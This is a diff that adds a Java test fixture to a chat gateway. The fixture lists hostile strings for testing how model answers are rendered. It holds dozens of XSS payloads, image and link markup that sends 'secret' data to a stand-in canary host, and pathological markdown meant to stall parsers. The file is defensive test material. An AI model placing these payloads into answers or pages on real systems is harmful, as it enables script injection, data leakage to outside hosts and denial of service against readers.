@@ -1,0 +1,87 @@
+package chatgateway.support.browser;
+
+import java.util.List;
+
+/** What a model, or whoever wrote what it read, may put into an answer to harm its reader (security.md T28, T29). */
+public final class HostileTexts {
+    /** Runs, loads or rebuilds something where it is taken for markup; CANARY stands for a server that must hear nothing. */
+    public static final List<String> MARKUP = List.of(
+            "<img src=x onerror=\"window.__xss=1\">",
+            "<IMG SRC=x ONERROR=window.__xss=1//",
+            "<svg/onload=window.__xss=1>",
+            "<svg><script>window.__xss=1</script></svg>",
+            "<script>window.__xss=1</script>",
+            "<script src=\"CANARY/x.js\"></script>",
+            "[click](javascript:window.__xss=1)",
+            "[click](java&#10;script:window.__xss=1)",
+            "[click](&#106;avascript:window.__xss=1)",
+            "[click](\u0001javascript:window.__xss=1)",
+            "[click](data:text/html,<script>window.__xss=1</script>)",
+            "[click](vbscript:window.__xss=1)",
+            "[click](blob:CANARY/1)",
+            "<javascript:window.__xss=1>",
+            "<a href=\"javascript:window.__xss=1\">click</a>",
+            "[a](https://example.com/\"onmouseover=\"window.__xss=1\")",
+            "[a](https://example.com 'x\" onmouseover=\"window.__xss=1')",
+            "```\"><img/src=x/onerror=window.__xss=1>\ncode\n```",
+            "```js <img src=x onerror=window.__xss=1>\n<img src=x onerror=window.__xss=1>\n```",
+            "`<img src=x onerror=window.__xss=1>`",
+            "<iframe src=\"javascript:window.__xss=1\"></iframe>",
+            "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
+            "<style>@import 'CANARY/x.css'; body { background: url(CANARY/bg) }</style>",
+            "<div style=\"background: url(CANARY/bg)\">x</div>",
+            "<link rel=stylesheet href=\"CANARY/x.css\">",
+            "<link rel=preload as=image href=\"CANARY/p.png\">",
+            "<meta http-equiv=refresh content=\"0;url=CANARY/\">",
+            "<base href=\"CANARY/\">",
+            "<form id=app action=\"CANARY/\"><input name=query autofocus onfocus=window.__xss=1></form>",
+            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__xss=1&gt;\">",
+            "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">",
+            "<details open ontoggle=window.__xss=1>x</details>",
+            "<video src=\"CANARY/v.mp4\" poster=\"CANARY/p.png\" onerror=window.__xss=1></video>",
+            "<audio src=\"CANARY/a.mp3\" autoplay></audio>",
+            "<object data=\"CANARY/o.swf\"></object><embed src=\"CANARY/e\">",
+            "<picture><source srcset=\"CANARY/s.png\"><img srcset=\"CANARY/t.png 2x\"></picture>",
+            "<svg><image href=\"CANARY/i.png\"/></svg>",
+            "![x](CANARY/?d=secret)",
+            "![x](https://secret.canary.invalid/?d=secret)",
+            "https://secret.canary.invalid/?d=secret and www.canary.invalid",
+            "<link rel=dns-prefetch href=\"//secret.canary.invalid\"><link rel=preconnect href=\"//canary.invalid\">",
+            "<a href=\"CANARY/\" ping=\"CANARY/ping\">x</a>",
+            "<input type=image src=\"CANARY/i.png\"><body background=\"CANARY/b.png\">",
+            "![x][1]\n\n[1]: CANARY/?d=secret",
+            "![x](CANARY/a.png \"t\" onerror=window.__xss=1)",
+            "![\"onerror=\"window.__xss=1](CANARY/b.png)",
+            "| a | b |\n|---|---|\n| <img src=x onerror=window.__xss=1> | <br><svg onload=window.__xss=1> |",
+            "$$\\href{javascript:window.__xss=1}{x}$$",
+            "$$\\includegraphics{CANARY/m.png}$$",
+            "$$\\htmlStyle{background:url(CANARY/n)}{x} \\htmlData{x=1}{y}$$",
+            "$$<img src=x onerror=window.__xss=1>$$",
+            "> - 1. <img src=x onerror=window.__xss=1>",
+            "&lt;img src=x onerror=window.__xss=1&gt;",
+            "<!--<img src=\"--><img src=x onerror=window.__xss=1//\">",
+            "<p id=query class=composer>x</p><a id=send name=send>y</a>",
+            "</template></article><img src=x onerror=window.__xss=1>");
+
+    /** Costs a parser that looks ahead without a limit minutes. */
+    public static final List<String> COSTLY = List.of(
+            "x".repeat(1_000_000),
+            ">".repeat(10_000) + " deep",
+            "> ".repeat(10_000) + "deep",
+            "*a ".repeat(10_000),
+            "- item of a list\n".repeat(2_000),
+            "*".repeat(10_000),
+            "가**`".repeat(3_000),
+            "`".repeat(9_999) + " " + "`".repeat(9_998),
+            "[".repeat(10_000),
+            "![](".repeat(3_000),
+            "[](<".repeat(3_000) + ")",
+            "[a](b[c](d".repeat(1_000),
+            "$".repeat(10_000),
+            "\\(".repeat(5_000),
+            "<".repeat(10_000),
+            "| ".repeat(5_000) + "\n" + "|-".repeat(5_000),
+            "- ".repeat(1_000) + "x");
+
+    private HostileTexts() {}
+}
